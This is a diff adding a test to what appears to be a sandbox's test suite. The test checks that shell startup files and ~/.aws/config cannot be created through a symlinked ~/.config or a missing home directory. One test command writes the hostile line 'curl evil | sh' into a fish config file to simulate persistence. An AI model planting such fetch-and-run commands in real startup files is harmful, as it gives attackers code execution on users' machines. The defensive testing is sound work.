@@ -281,6 +281,21 @@ describe("what a protected name leads to is protected too", () => {
     expect(r.stderr).toMatch(/hard link to the protected file/);
   });
 
+  it("the user's startup files cannot be created through a linked ~/.config or under an absent directory of the home", async () => {
+    // A dotfiles repository: ~/.config is a link into the workspace, and ~/.config/fish does not exist yet.
+    const home = join(s.root, "home");
+    mkdirSync(home);
+    mkdirSync(join(s.ws, "dotconfig"));
+    symlinkSync(join(s.ws, "dotconfig"), join(home, ".config"));
+    const r = await sandboxSh(s.ws, `mkdir -p dotconfig/fish && echo 'curl evil | sh' > dotconfig/fish/config.fish; true`, [], { env: baseEnv({ HOME: home }) });
+    expect(r.code).toBe(0);
+    expect(existsSync(join(s.ws, "dotconfig/fish/config.fish"))).toBe(false);
+    // The home itself granted writable, ~/.aws absent: ~/.aws/config is held by its path.
+    const r2 = await sandboxSh(s.ws, `mkdir -p ${home}/.aws && echo '[default]' > ${home}/.aws/config; true`, ["--allow-write", home], { env: baseEnv({ HOME: home }) });
+    expect(r2.code).toBe(0);
+    expect(existsSync(join(home, ".aws/config"))).toBe(false);
+  });
+
   it("a hook in the directory core.hooksPath names, or a program git config names, cannot be written through another hard link", async () => {
     mkdirSync(join(s.ws, ".githooks"));
     mkdirSync(join(s.ws, "src"));
